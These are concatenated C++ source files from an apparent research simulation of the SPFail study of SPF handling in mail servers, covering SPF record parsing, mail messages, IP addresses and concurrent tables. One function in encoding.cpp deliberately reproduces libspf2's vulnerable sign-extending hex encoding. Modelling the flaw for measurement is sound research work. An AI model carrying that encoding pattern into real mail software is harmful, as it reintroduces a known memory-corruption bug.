      case '~':
        mech.qualifier = Qualifier::SoftFail;
        rest.remove_prefix(1);
        break;
      case '?':
        mech.qualifier = Qualifier::Neutral;
        rest.remove_prefix(1);
        break;
      default:
        break;
    }
    if (rest.empty()) throw RecordSyntaxError("empty mechanism");

    std::string name, argument;
    const std::size_t colon = rest.find(':');
    std::size_t name_end = colon;
    // A bare "a/24" has a CIDR but no colon argument.
    const std::size_t slash = rest.find('/');
    if (slash != std::string_view::npos &&
        (colon == std::string_view::npos || slash < colon)) {
      name_end = slash;
      argument = std::string(rest.substr(slash));  // keep '/...' in argument
    } else if (colon != std::string_view::npos) {
      argument = std::string(rest.substr(colon + 1));
    }
    name = std::string(name_end == std::string_view::npos
                           ? rest
                           : rest.substr(0, name_end));
    mech.kind = mechanism_kind_from(name);

    switch (mech.kind) {
      case MechanismKind::All:
        if (!argument.empty()) {
          throw RecordSyntaxError("'all' takes no argument");
        }
        break;
      case MechanismKind::Include:
      case MechanismKind::Exists:
        if (argument.empty()) {
          throw RecordSyntaxError("'" + name + "' requires a domain-spec");
        }
        mech.domain_spec = argument;
        break;
      case MechanismKind::A:
      case MechanismKind::Mx:
      case MechanismKind::Ptr: {
        std::string spec = argument;
        parse_dual_cidr(spec, mech);
        if (mech.kind == MechanismKind::Ptr && (mech.cidr4 >= 0 || mech.cidr6 >= 0)) {
          throw RecordSyntaxError("'ptr' takes no CIDR");
        }
        if (mech.cidr4 > 32) {
          throw RecordSyntaxError("v4 CIDR length out of range");
        }
        mech.domain_spec = spec;
        break;
      }
      case MechanismKind::Ip4:
      case MechanismKind::Ip6: {
        std::string spec = argument;
        parse_dual_cidr(spec, mech);
        if (mech.kind == MechanismKind::Ip4 && mech.cidr6 >= 0) {
          throw RecordSyntaxError("'ip4' cannot carry a //v6 CIDR");
        }
        if (mech.kind == MechanismKind::Ip4 && mech.cidr4 > 32) {
          throw RecordSyntaxError("ip4 CIDR length out of range");
        }
        if (mech.kind == MechanismKind::Ip6 && mech.cidr4 >= 0 && mech.cidr6 < 0) {
          // "ip6:.../64" parses into cidr4 by position; reinterpret.
          if (mech.cidr4 > 128) throw RecordSyntaxError("ip6 CIDR out of range");
          mech.cidr6 = mech.cidr4;
          mech.cidr4 = -1;
        }
        const auto ip = util::IpAddress::parse(spec);
        if (!ip.has_value()) {
          throw RecordSyntaxError("malformed address in '" + std::string(term) +
                                  "'");
        }
        if (mech.kind == MechanismKind::Ip4 && !ip->is_v4()) {
          throw RecordSyntaxError("ip4 mechanism with non-v4 address");
        }
        if (mech.kind == MechanismKind::Ip6 && !ip->is_v6()) {
          throw RecordSyntaxError("ip6 mechanism with non-v6 address");
        }
        mech.network = spec;
        break;
      }
    }
    record.mechanisms.push_back(std::move(mech));
  }
  return record;
}

}  // namespace spfail::spf
