// SPF record model and parser (RFC 7208 sections 4.6.1, 5, 6).
//
// An SPF record is "v=spf1" followed by whitespace-separated terms:
// mechanisms (with an optional qualifier prefix) and modifiers (name=value).
#pragma once

#include <optional>
#include <stdexcept>
#include <string>
#include <string_view>
#include <vector>

namespace spfail::spf {

enum class Qualifier : char {
  Pass = '+',
  Fail = '-',
  SoftFail = '~',
  Neutral = '?',
};

enum class MechanismKind {
  All,
  Include,
  A,
  Mx,
  Ptr,
  Ip4,
  Ip6,
  Exists,
};

std::string to_string(MechanismKind kind);

struct Mechanism {
  Qualifier qualifier = Qualifier::Pass;
  MechanismKind kind = MechanismKind::All;

  // Unexpanded domain-spec (may contain macros); empty means "use the
  // current domain" where the mechanism allows that (a, mx, ptr).
  std::string domain_spec;

  // ip4/ip6 network for Ip4/Ip6 mechanisms (textual, validated at parse).
  std::string network;

  // CIDR lengths; -1 = unspecified (full-length match).
  int cidr4 = -1;
  int cidr6 = -1;

  friend bool operator==(const Mechanism&, const Mechanism&) = default;
};

struct Modifier {
  std::string name;   // lowercase
  std::string value;  // unexpanded macro-string

  friend bool operator==(const Modifier&, const Modifier&) = default;
};

class RecordSyntaxError : public std::runtime_error {
 public:
  using std::runtime_error::runtime_error;
};

struct Record {
  std::vector<Mechanism> mechanisms;
  std::vector<Modifier> modifiers;

  // First value of the named modifier, if present.
  std::optional<std::string> modifier(std::string_view name) const;
  std::optional<std::string> redirect() const { return modifier("redirect"); }
  std::optional<std::string> exp() const { return modifier("exp"); }

  // Render back to record text (normalised spacing/qualifiers).
  std::string to_string() const;

  friend bool operator==(const Record&, const Record&) = default;
};

// True if `txt` begins with the version tag "v=spf1" followed by a space or
// end-of-string (the RFC's record-selection test).
bool looks_like_spf(std::string_view txt);

// Parse a full record ("v=spf1 ..."). Throws RecordSyntaxError on violations
// the RFC calls out as PermError: unknown mechanism names, malformed CIDR,
// bad ip4/ip6 networks, duplicate redirect, junk qualifiers.
Record parse_record(std::string_view txt);

}  // namespace spfail::spf
