#include "mail/message.hpp"

#include "smtp/command.hpp"
#include "util/strings.hpp"

namespace spfail::mail {

Message Message::parse(std::string_view text) {
  Message message;
  std::size_t pos = 0;
  bool in_headers = true;
  std::string pending_name, pending_value;

  const auto flush_pending = [&] {
    if (!pending_name.empty()) {
      message.headers_.push_back(
          Header{pending_name, std::string(util::trim(pending_value))});
      pending_name.clear();
      pending_value.clear();
    }
  };

  while (in_headers && pos <= text.size()) {
    const std::size_t eol = text.find('\n', pos);
    std::string_view line = eol == std::string_view::npos
                                ? text.substr(pos)
                                : text.substr(pos, eol - pos);
    if (!line.empty() && line.back() == '\r') line.remove_suffix(1);
    pos = eol == std::string_view::npos ? text.size() + 1 : eol + 1;

    if (line.empty()) {
      flush_pending();
      in_headers = false;
      break;
    }
    if (line.front() == ' ' || line.front() == '\t') {
      // Folded continuation.
      if (!pending_name.empty()) {
        pending_value.push_back(' ');
        pending_value.append(util::trim(line));
      }
      continue;
    }
    flush_pending();
    const std::size_t colon = line.find(':');
    if (colon == std::string_view::npos) continue;  // tolerate junk lines
    pending_name = std::string(util::trim(line.substr(0, colon)));
    pending_value = std::string(line.substr(colon + 1));
  }
  flush_pending();

  if (pos <= text.size()) {
    message.body_ = std::string(text.substr(pos));
  }
  return message;
}

std::string Message::to_string() const {
  std::string out;
  for (const auto& header : headers_) {
    out += header.name + ": " + header.value + "\r\n";
  }
  out += "\r\n";
  out += body_;
  return out;
}

void Message::add_header(std::string_view name, std::string_view value) {
  headers_.push_back(Header{std::string(name), std::string(value)});
}

void Message::prepend_header(std::string_view name, std::string_view value) {
  headers_.insert(headers_.begin(),
                  Header{std::string(name), std::string(value)});
}

std::optional<std::string> Message::first_header(std::string_view name) const {
  for (const auto& header : headers_) {
    if (util::iequals(header.name, name)) return header.value;
  }
  return std::nullopt;
}

std::size_t Message::count_header(std::string_view name) const {
  std::size_t n = 0;
  for (const auto& header : headers_) {
    n += util::iequals(header.name, name);
  }
  return n;
}

std::optional<dns::Name> Message::from_domain() const {
  const auto from = first_header("From");
  if (!from.has_value()) return std::nullopt;
  const auto addr = extract_addr_spec(*from);
  if (!addr.has_value()) return std::nullopt;
  const auto parts = smtp::split_mailbox(*addr);
  if (!parts.has_value()) return std::nullopt;
  return dns::Name::lenient(parts->domain);
}

std::optional<std::string> extract_addr_spec(std::string_view header_value) {
  const std::size_t lt = header_value.find('<');
  const std::size_t gt = header_value.rfind('>');
  if (lt != std::string_view::npos && gt != std::string_view::npos && gt > lt) {
    return std::string(header_value.substr(lt + 1, gt - lt - 1));
  }
  const std::string_view trimmed = util::trim(header_value);
  if (trimmed.find('@') == std::string_view::npos) return std::nullopt;
  return std::string(trimmed);
}

}  // namespace spfail::mail
