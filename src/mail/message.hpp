// RFC 5322-lite mail messages: ordered headers + body, with folding-aware
// parsing and the From-domain extraction DMARC alignment needs.
//
// Scope: enough structure for the simulation's needs (DKIM signing input,
// DMARC's RFC5322.From, notification emails with tracking images) — not a
// full MIME implementation.
#pragma once

#include <optional>
#include <string>
#include <string_view>
#include <vector>

#include "dns/name.hpp"

namespace spfail::mail {

struct Header {
  std::string name;   // original case preserved
  std::string value;  // unfolded, surrounding whitespace trimmed

  friend bool operator==(const Header&, const Header&) = default;
};

class Message {
 public:
  Message() = default;

  // Parse "headers CRLF CRLF body" (bare LF accepted). Folded header lines
  // (continuations starting with WSP) are unfolded with a single space.
  // Lines before the first blank line without a ':' are ignored (tolerant,
  // like real MTAs).
  static Message parse(std::string_view text);

  // Render with CRLF line endings and a blank line before the body.
  std::string to_string() const;

  const std::vector<Header>& headers() const noexcept { return headers_; }
  const std::string& body() const noexcept { return body_; }
  void set_body(std::string body) { body_ = std::move(body); }

  // Append a header (keeps order; duplicates allowed, as in real mail).
  void add_header(std::string_view name, std::string_view value);
  // Prepend (trace headers like Received/DKIM-Signature go on top).
  void prepend_header(std::string_view name, std::string_view value);

  // First header with the given name, case-insensitively.
  std::optional<std::string> first_header(std::string_view name) const;
  std::size_t count_header(std::string_view name) const;

  // The domain of the first From: header's addr-spec (angle brackets and
  // display names tolerated). nullopt when absent/unparseable.
  std::optional<dns::Name> from_domain() const;

  friend bool operator==(const Message&, const Message&) = default;

 private:
  std::vector<Header> headers_;
  std::string body_;
};

// Extract the addr-spec from a From/To style value: "Display <a@b>" -> a@b,
// "a@b" -> a@b. nullopt if nothing address-shaped is present.
std::optional<std::string> extract_addr_spec(std::string_view header_value);

}  // namespace spfail::mail
