#include "util/intern.hpp"

#include <algorithm>

namespace spfail::util {

namespace {

std::uint64_t fnv1a(std::string_view text) {
  std::uint64_t h = 1469598103934665603ULL;
  for (const char c : text) {
    h ^= static_cast<std::uint8_t>(c);
    h *= 1099511628211ULL;
  }
  return h;
}

}  // namespace

std::string_view Interner::append(std::string_view text) {
  if (chunks_.empty() || chunks_.back().size() + text.size() > kChunkBytes) {
    std::string chunk;
    chunk.reserve(std::max(kChunkBytes, text.size()));
    chunks_.push_back(std::move(chunk));
  }
  std::string& chunk = chunks_.back();
  const std::uint32_t offset = static_cast<std::uint32_t>(chunk.size());
  chunk.append(text);
  entries_.push_back(Entry{static_cast<std::uint32_t>(chunks_.size() - 1),
                           offset, static_cast<std::uint32_t>(text.size())});
  distinct_bytes_ += text.size();
  return std::string_view(chunk.data() + offset, text.size());
}

void Interner::rehash(std::size_t buckets) {
  table_.assign(buckets, kInvalidSymbol);
  for (Symbol id = 0; id < entries_.size(); ++id) {
    std::size_t slot = fnv1a(view(id)) & (buckets - 1);
    while (table_[slot] != kInvalidSymbol) slot = (slot + 1) & (buckets - 1);
    table_[slot] = id;
  }
}

Symbol Interner::lookup(std::string_view text, std::uint64_t hash) const {
  if (table_.empty()) return kInvalidSymbol;
  const std::size_t mask = table_.size() - 1;
  std::size_t slot = hash & mask;
  while (table_[slot] != kInvalidSymbol) {
    if (view(table_[slot]) == text) return table_[slot];
    slot = (slot + 1) & mask;
  }
  return kInvalidSymbol;
}

Symbol Interner::intern(std::string_view text) {
  const std::uint64_t hash = fnv1a(text);
  const Symbol existing = lookup(text, hash);
  if (existing != kInvalidSymbol) {
    ++hits_;
    return existing;
  }
  ++misses_;
  // Grow at 70% load so probe chains stay short.
  if (table_.empty() || (entries_.size() + 1) * 10 >= table_.size() * 7) {
    rehash(table_.empty() ? 64 : table_.size() * 2);
  }
  const Symbol id = static_cast<Symbol>(entries_.size());
  append(text);
  const std::size_t mask = table_.size() - 1;
  std::size_t slot = hash & mask;
  while (table_[slot] != kInvalidSymbol) slot = (slot + 1) & mask;
  table_[slot] = id;
  return id;
}

Symbol Interner::find(std::string_view text) const {
  return lookup(text, fnv1a(text));
}

std::vector<Symbol> Interner::merge(const Interner& other) {
  std::vector<Symbol> remap;
  remap.reserve(other.size());
  for (Symbol id = 0; id < other.size(); ++id) {
    remap.push_back(intern(other.view(id)));
  }
  return remap;
}

void Interner::encode(snapshot::Writer& w) const {
  snapshot::Writer body;
  body.u32(static_cast<std::uint32_t>(entries_.size()));
  for (Symbol id = 0; id < entries_.size(); ++id) body.str(view(id));
  w.u32(static_cast<std::uint32_t>(body.bytes().size()));
  w.u64(fnv1a(body.bytes()));
  for (const char c : body.bytes()) w.u8(static_cast<std::uint8_t>(c));
}

Interner Interner::decode(snapshot::Reader& r) {
  const std::uint32_t length = r.u32();
  const std::uint64_t checksum = r.u64();
  std::string body;
  body.reserve(length);
  for (std::uint32_t i = 0; i < length; ++i) {
    body.push_back(static_cast<char>(r.u8()));
  }
  if (fnv1a(body) != checksum) {
    throw snapshot::SnapshotError("intern table checksum mismatch");
  }
  snapshot::Reader body_reader(body);
  const std::uint32_t count = body_reader.u32();
  Interner interner;
  for (std::uint32_t i = 0; i < count; ++i) {
    interner.intern(body_reader.str());
  }
  body_reader.expect_done();
  if (interner.size() != count) {
    throw snapshot::SnapshotError("intern table carries duplicate strings");
  }
  return interner;
}

Symbol SyncInterner::intern(std::string_view text) {
  const std::uint64_t hash = fnv1a(text);
  for (int salt = 0; salt <= kMaxSalt; ++salt) {
    const std::uint64_t key =
        hash + static_cast<std::uint64_t>(salt) * kSaltStep;
    const auto found = table_.find_or_insert(key, [&](Slot& slot) {
      // Pre-publication window: allocate the symbol, publish its string,
      // and record the symbol in the slot. All of it becomes visible to
      // losers via the table's release-store of Ready.
      const std::uint32_t id =
          next_symbol_.fetch_add(1, std::memory_order_acq_rel);
      strings_[id].store(new std::string(text), std::memory_order_release);
      slot.symbol = id;
    });
    const std::uint32_t id = found.payload->symbol;
    if (found.inserted || view(id) == text) return id;
    // A different string owns this key — a true 64-bit fnv1a collision.
    // Re-probe under the next salted key.
  }
  throw TableFullError("intern salt chain exhausted for '" +
                       std::string(text) + "'");
}

bool operator==(const Interner& a, const Interner& b) {
  if (a.size() != b.size()) return false;
  for (Symbol id = 0; id < a.size(); ++id) {
    if (a.view(id) != b.view(id)) return false;
  }
  return true;
}

}  // namespace spfail::util
