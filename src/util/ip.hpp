// IPv4/IPv6 address value type.
//
// The simulation addresses MTAs by IpAddress; SPF `ip4`/`ip6` mechanisms and
// the `i` macro both need parsing, formatting, and prefix matching.
#pragma once

#include <array>
#include <compare>
#include <cstdint>
#include <optional>
#include <string>
#include <string_view>

namespace spfail::util {

class IpAddress {
 public:
  enum class Family : std::uint8_t { V4, V6 };

  IpAddress() noexcept = default;

  static IpAddress v4(std::uint32_t addr) noexcept;
  static IpAddress v4(std::uint8_t a, std::uint8_t b, std::uint8_t c,
                      std::uint8_t d) noexcept;
  static IpAddress v6(const std::array<std::uint8_t, 16>& bytes) noexcept;

  // Parses dotted-quad or RFC 4291 text (including "::" compression).
  // Returns nullopt on malformed input.
  static std::optional<IpAddress> parse(std::string_view text);

  Family family() const noexcept { return family_; }
  bool is_v4() const noexcept { return family_ == Family::V4; }
  bool is_v6() const noexcept { return family_ == Family::V6; }

  // V4: bytes 0..3 are significant. V6: all 16.
  const std::array<std::uint8_t, 16>& bytes() const noexcept { return bytes_; }
  std::uint32_t v4_value() const;  // throws std::logic_error on a V6 address

  // True if this address falls inside `network`/`prefix_len`. Families must
  // match, otherwise false.
  bool in_prefix(const IpAddress& network, int prefix_len) const noexcept;

  std::string to_string() const;

  // The SPF "i" macro form: dotted-quad for v4; for v6, dot-separated
  // nibbles per RFC 7208 section 7.3 ("1.0.B.C...." style).
  std::string spf_macro_form() const;

  // The reverse-DNS label form used by validated-domain lookups.
  std::string reverse_pointer() const;

  friend auto operator<=>(const IpAddress&, const IpAddress&) = default;

 private:
  Family family_ = Family::V4;
  std::array<std::uint8_t, 16> bytes_{};
};

// Hash functor for unordered containers keyed by address (the scan and
// longitudinal hot paths). FNV-1a over family + all 16 bytes.
struct IpAddressHash {
  std::size_t operator()(const IpAddress& address) const noexcept {
    std::uint64_t h = 0xcbf29ce484222325ULL;
    const auto mix = [&h](std::uint8_t byte) noexcept {
      h ^= byte;
      h *= 0x100000001b3ULL;
    };
    mix(static_cast<std::uint8_t>(address.family()));
    for (const std::uint8_t byte : address.bytes()) mix(byte);
    return static_cast<std::size_t>(h);
  }
};

}  // namespace spfail::util
