#include "util/table.hpp"

#include <algorithm>
#include <sstream>
#include <stdexcept>

namespace spfail::util {

TextTable::TextTable(std::vector<std::string> headers,
                     std::vector<Align> alignments)
    : headers_(std::move(headers)), alignments_(std::move(alignments)) {
  if (headers_.empty()) {
    throw std::invalid_argument("TextTable: need at least one column");
  }
  if (alignments_.empty()) {
    alignments_.assign(headers_.size(), Align::Left);
  }
  if (alignments_.size() != headers_.size()) {
    throw std::invalid_argument("TextTable: alignment/header count mismatch");
  }
}

void TextTable::add_row(std::vector<std::string> cells) {
  if (cells.size() != headers_.size()) {
    throw std::invalid_argument("TextTable: row has " +
                                std::to_string(cells.size()) + " cells, need " +
                                std::to_string(headers_.size()));
  }
  rows_.push_back(Row{std::move(cells), false});
}

void TextTable::add_rule() { rows_.push_back(Row{{}, true}); }

std::size_t TextTable::rows() const noexcept {
  std::size_t n = 0;
  for (const auto& r : rows_) {
    if (!r.rule) ++n;
  }
  return n;
}

std::string TextTable::render() const {
  std::vector<std::size_t> widths(headers_.size());
  for (std::size_t c = 0; c < headers_.size(); ++c) {
    widths[c] = headers_[c].size();
  }
  for (const auto& row : rows_) {
    if (row.rule) continue;
    for (std::size_t c = 0; c < row.cells.size(); ++c) {
      widths[c] = std::max(widths[c], row.cells[c].size());
    }
  }

  std::ostringstream os;
  const auto emit_rule = [&] {
    for (std::size_t c = 0; c < widths.size(); ++c) {
      os << '+' << std::string(widths[c] + 2, '-');
    }
    os << "+\n";
  };
  const auto emit_cells = [&](const std::vector<std::string>& cells) {
    for (std::size_t c = 0; c < widths.size(); ++c) {
      const std::string& cell = cells[c];
      const std::size_t pad = widths[c] - cell.size();
      os << "| ";
      if (alignments_[c] == Align::Right) os << std::string(pad, ' ');
      os << cell;
      if (alignments_[c] == Align::Left) os << std::string(pad, ' ');
      os << ' ';
    }
    os << "|\n";
  };

  emit_rule();
  emit_cells(headers_);
  emit_rule();
  for (const auto& row : rows_) {
    if (row.rule) {
      emit_rule();
    } else {
      emit_cells(row.cells);
    }
  }
  emit_rule();
  return os.str();
}

void TextTable::to_csv(std::ostream& os) const {
  CsvWriter csv(os);
  csv.row(headers_);
  for (const auto& row : rows_) {
    if (!row.rule) csv.row(row.cells);
  }
}

void CsvWriter::row(const std::vector<std::string>& cells) {
  for (std::size_t i = 0; i < cells.size(); ++i) {
    if (i > 0) os_ << ',';
    os_ << escape(cells[i]);
  }
  os_ << '\n';
}

std::string CsvWriter::escape(const std::string& cell) {
  if (cell.find_first_of(",\"\n") == std::string::npos) return cell;
  std::string out = "\"";
  for (char c : cell) {
    if (c == '"') out.push_back('"');
    out.push_back(c);
  }
  out.push_back('"');
  return out;
}

}  // namespace spfail::util
