// Deterministic pseudo-random number generation for reproducible simulations.
//
// Every stochastic component of the SPFail reproduction (population synthesis,
// patch-hazard draws, measurement-loss process, scheduler jitter) draws from a
// Rng seeded from a single experiment seed, so a given seed always reproduces
// the same fleet and the same longitudinal trajectory.
#pragma once

#include <array>
#include <cstdint>
#include <span>
#include <stdexcept>
#include <string>
#include <string_view>
#include <vector>

namespace spfail::util {

// splitmix64: used to expand a single 64-bit seed into stream seeds.
// Reference: Sebastiano Vigna, public domain.
constexpr std::uint64_t splitmix64(std::uint64_t& state) noexcept {
  state += 0x9e3779b97f4a7c15ULL;
  std::uint64_t z = state;
  z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
  z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
  return z ^ (z >> 31);
}

// xoshiro256** 1.0 — fast, high-quality 64-bit generator.
class Rng {
 public:
  using result_type = std::uint64_t;

  explicit Rng(std::uint64_t seed = 0x5350464149'4cULL /* "SPFAIL" */) noexcept {
    std::uint64_t sm = seed;
    for (auto& word : state_) word = splitmix64(sm);
  }

  static constexpr result_type min() noexcept { return 0; }
  static constexpr result_type max() noexcept { return ~0ULL; }

  result_type operator()() noexcept {
    const std::uint64_t result = rotl(state_[1] * 5, 7) * 9;
    const std::uint64_t t = state_[1] << 17;
    state_[2] ^= state_[0];
    state_[3] ^= state_[1];
    state_[1] ^= state_[2];
    state_[0] ^= state_[3];
    state_[2] ^= t;
    state_[3] = rotl(state_[3], 45);
    return result;
  }

  // Derive an independent child stream; `label` keeps derivations stable even
  // if call order changes between versions.
  Rng fork(std::string_view label) noexcept;

  // Generator position, for checkpointing mid-stream (src/snapshot/): a
  // restored Rng continues the exact draw sequence of the captured one.
  std::array<std::uint64_t, 4> state() const noexcept {
    return {state_[0], state_[1], state_[2], state_[3]};
  }
  void set_state(const std::array<std::uint64_t, 4>& words) noexcept {
    for (std::size_t i = 0; i < 4; ++i) state_[i] = words[i];
  }

  // Uniform integer in [lo, hi] (inclusive). Requires lo <= hi.
  std::uint64_t uniform(std::uint64_t lo, std::uint64_t hi) noexcept;
  std::int64_t uniform_signed(std::int64_t lo, std::int64_t hi) noexcept;

  // Uniform double in [0, 1).
  double uniform01() noexcept {
    return static_cast<double>((*this)() >> 11) * 0x1.0p-53;
  }

  bool bernoulli(double p) noexcept { return uniform01() < p; }

  // Exponential variate with the given rate (events per unit time).
  double exponential(double rate) noexcept;

  // Pick an index in [0, weights.size()) with probability proportional to
  // weights[i]. Throws std::invalid_argument if weights are empty or all zero.
  std::size_t weighted_index(std::span<const double> weights);

  // Pick a uniformly random element of a non-empty container.
  template <typename Container>
  const typename Container::value_type& pick(const Container& c) {
    if (c.empty()) throw std::invalid_argument("Rng::pick: empty container");
    return c[uniform(0, c.size() - 1)];
  }

  template <typename T>
  void shuffle(std::vector<T>& v) noexcept {
    for (std::size_t i = v.size(); i > 1; --i) {
      using std::swap;
      swap(v[i - 1], v[uniform(0, i - 1)]);
    }
  }

  // A short lowercase base-32 alphanumeric token (e.g. unique test labels).
  std::string token(std::size_t length);

 private:
  static constexpr std::uint64_t rotl(std::uint64_t x, int k) noexcept {
    return (x << k) | (x >> (64 - k));
  }

  std::uint64_t state_[4]{};
};

// Stable 64-bit FNV-1a hash of a string, used for label-keyed stream forking.
constexpr std::uint64_t fnv1a(std::string_view s) noexcept {
  std::uint64_t h = 0xcbf29ce484222325ULL;
  for (char c : s) {
    h ^= static_cast<unsigned char>(c);
    h *= 0x100000001b3ULL;
  }
  return h;
}

}  // namespace spfail::util
