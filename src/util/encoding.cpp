#include "util/encoding.hpp"

#include <cstdio>

namespace spfail::util {

std::string url_encode_byte(unsigned char c) {
  char buf[4];
  std::snprintf(buf, sizeof(buf), "%%%02X", c);
  return buf;
}

std::string url_encode(std::string_view s) {
  std::string out;
  out.reserve(s.size());
  for (char ch : s) {
    const auto c = static_cast<unsigned char>(ch);
    if (is_url_unreserved(c)) {
      out.push_back(ch);
    } else {
      out.append(url_encode_byte(c));
    }
  }
  return out;
}

std::string libspf2_sprintf_encode_byte(unsigned char c) {
  // Reproduce the exact integer conversion chain from the vulnerable code:
  //   char value -> (default promotion) int -> (as %x operand) unsigned int.
  // A byte >= 0x80 stored in a signed char becomes a negative int, whose
  // unsigned representation is 0xFFFFFFxx — printed as 8 hex digits instead
  // of the 2 the author assumed.
  const char as_signed = static_cast<char>(c);
  const unsigned int promoted = static_cast<unsigned int>(static_cast<int>(as_signed));
  char buf[16];
  std::snprintf(buf, sizeof(buf), "%%%02x", promoted);
  return buf;
}

std::string to_hex(std::string_view bytes) {
  static constexpr char kDigits[] = "0123456789abcdef";
  std::string out;
  out.reserve(bytes.size() * 2);
  for (char ch : bytes) {
    const auto c = static_cast<unsigned char>(ch);
    out.push_back(kDigits[c >> 4]);
    out.push_back(kDigits[c & 0xF]);
  }
  return out;
}

}  // namespace spfail::util
