// Lock-free open-addressed hash table for shared scan state (DESIGN.md §16).
//
// Modeled on ltsmin's dbs-ll.c / clt_table.c pattern (cited in ROADMAP item
// 1): a fixed-capacity power-of-two slot array, linear probing, and slots
// published with a compare-and-swap — no locks, no resizing, no deletion.
// Concurrent readers and writers never block each other; a full table raises
// TableFullError instead of growing (growth would invalidate concurrent
// probes), so callers size the table from a known upper bound up front and
// treat exhaustion as a programming error or fall back to a serial path.
//
// Memory model (the §16 determinism argument leans on these two points):
//   * A slot is claimed by CAS-ing its state byte Free -> Busy (acquire/
//     release). The winner writes the 64-bit key and default-constructed
//     payload are already in place (constructed at table build time); it may
//     further initialise the payload via the find_or_insert callback, then
//     publishes with state.store(Ready, release).
//   * Readers spin state.load(acquire) until Ready, so every byte the
//     inserter wrote before the release-store — key and payload initial
//     values — is visible. All *subsequent* payload mutation must go through
//     the payload's own std::atomic members (fetch_add counters, CAS-min
//     claims); the table publishes the slot once and never touches the
//     payload again.
//
// Keys are arbitrary u64s (callers typically use util::fnv1a). Any key value
// is legal, including 0 and ~0 — slot occupancy lives in the state byte, not
// in a reserved key sentinel (the per-/24 provider groups legitimately hash
// to 0). Callers whose logical keys are wider than 64 bits (interned strings,
// IPv6 addresses) must verify the full value after a hit and re-probe under a
// salted key on mismatch; see util::SyncInterner for the pattern.
#pragma once

#include <algorithm>
#include <atomic>
#include <bit>
#include <cstddef>
#include <cstdint>
#include <memory>
#include <stdexcept>
#include <string>

namespace spfail::util {

// The table refused an insert because every probeable slot is taken. Fixed
// capacity is a feature (growth under concurrency is what the lock protects
// against in the mutex design); hitting this means the caller's sizing bound
// was wrong.
class TableFullError : public std::runtime_error {
 public:
  explicit TableFullError(const std::string& what)
      : std::runtime_error("concurrent table: " + what) {}
};

// Payload requirements: default-constructible; all post-publication mutation
// through its own atomic members. The table never copies or moves payloads.
template <typename Payload>
class ConcurrentTable {
 public:
  // Capacity is rounded up to a power of two and doubled so the load factor
  // stays at or below 1/2 for the advertised `expected` entries — linear
  // probing degrades sharply past that.
  explicit ConcurrentTable(std::size_t expected)
      : mask_(std::bit_ceil(std::max<std::size_t>(16, expected * 2)) - 1),
        slots_(std::make_unique<Slot[]>(mask_ + 1)) {}

  ConcurrentTable(const ConcurrentTable&) = delete;
  ConcurrentTable& operator=(const ConcurrentTable&) = delete;

  std::size_t capacity() const noexcept { return mask_ + 1; }
  std::size_t size() const noexcept {
    return size_.load(std::memory_order_acquire);
  }

  struct FindOrInsert {
    Payload* payload = nullptr;
    bool inserted = false;
  };

  // Finds the slot for `key`, claiming a fresh one if absent. When this call
  // claims the slot, `init` runs on the payload *before* the slot becomes
  // visible to any other thread — the one race-free window for non-atomic
  // payload setup. Concurrent callers with the same key converge on one
  // slot; exactly one of them observes inserted == true.
  template <typename Init>
  FindOrInsert find_or_insert(std::uint64_t key, Init&& init) {
    const std::size_t start = static_cast<std::size_t>(mix(key)) & mask_;
    for (std::size_t probe = 0; probe <= mask_; ++probe) {
      Slot& slot = slots_[(start + probe) & mask_];
      std::uint8_t state = slot.state.load(std::memory_order_acquire);
      if (state == kFree) {
        std::uint8_t expected = kFree;
        if (slot.state.compare_exchange_strong(expected, kBusy,
                                               std::memory_order_acq_rel,
                                               std::memory_order_acquire)) {
          slot.key = key;
          init(slot.payload);
          slot.state.store(kReady, std::memory_order_release);
          size_.fetch_add(1, std::memory_order_acq_rel);
          return {&slot.payload, true};
        }
        state = expected;  // lost the claim race; fall through to inspect
      }
      // Busy: another thread is mid-publish. Its key is not readable yet, so
      // spin this slot until it settles — the publish window is a handful of
      // stores, never a syscall.
      while (state == kBusy) {
        state = slot.state.load(std::memory_order_acquire);
      }
      if (slot.key == key) return {&slot.payload, false};
    }
    throw TableFullError("insert into a full table (capacity " +
                         std::to_string(capacity()) + ")");
  }

  FindOrInsert find_or_insert(std::uint64_t key) {
    return find_or_insert(key, [](Payload&) {});
  }

  // The payload for `key`, or nullptr when absent. Waits out in-flight
  // publishes on probed slots, so a find that races an insert of the same
  // key returns either nullptr or the fully published payload — never a
  // half-written one.
  Payload* find(std::uint64_t key) const {
    const std::size_t start = static_cast<std::size_t>(mix(key)) & mask_;
    for (std::size_t probe = 0; probe <= mask_; ++probe) {
      Slot& slot = slots_[(start + probe) & mask_];
      std::uint8_t state = slot.state.load(std::memory_order_acquire);
      if (state == kFree) return nullptr;
      while (state == kBusy) {
        state = slot.state.load(std::memory_order_acquire);
      }
      if (slot.key == key) return &slot.payload;
    }
    return nullptr;
  }

  // Quiescent iteration over every published entry, in unspecified (slot)
  // order. Callers needing deterministic output must impose their own order
  // on what `fn` collects — the scan core sorts by address or accumulates
  // order-free sums. Safe concurrently with inserts (an entry published
  // before the call is visited; one racing in may or may not be), but the
  // deterministic callers only run it after a join barrier.
  template <typename Fn>
  void for_each(Fn&& fn) const {
    for (std::size_t i = 0; i <= mask_; ++i) {
      const Slot& slot = slots_[i];
      if (slot.state.load(std::memory_order_acquire) == kReady) {
        fn(slot.key, slot.payload);
      }
    }
  }

 private:
  static constexpr std::uint8_t kFree = 0;
  static constexpr std::uint8_t kBusy = 1;
  static constexpr std::uint8_t kReady = 2;

  struct Slot {
    std::atomic<std::uint8_t> state{kFree};
    std::uint64_t key = 0;  // published by state's release-store
    mutable Payload payload{};
  };

  // Final avalanche of splitmix64: callers hand in fnv1a hashes whose low
  // bits are already good, but exact u64 keys (the /24 provider groups) are
  // sequential — mix them so linear probing sees a uniform start slot.
  static constexpr std::uint64_t mix(std::uint64_t x) noexcept {
    x ^= x >> 30;
    x *= 0xbf58476d1ce4e5b9ULL;
    x ^= x >> 27;
    x *= 0x94d049bb133111ebULL;
    x ^= x >> 31;
    return x;
  }

  std::size_t mask_;
  std::unique_ptr<Slot[]> slots_;
  std::atomic<std::size_t> size_{0};
};

}  // namespace spfail::util
