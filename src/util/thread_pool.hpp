// Fixed-size worker pool for the sharded scan engine.
//
// The paper's scanner only finishes a round inside the 2-day cadence because
// it holds 250 concurrent SMTP connections; the reproduction gets the same
// effect from real threads. Shards are contiguous slices of an address-sorted
// work list, so results can be merged back in address order and the output is
// bit-identical at any thread count (see DESIGN.md, "Concurrency model").
//
// Thread count resolution: an explicit request wins; otherwise the
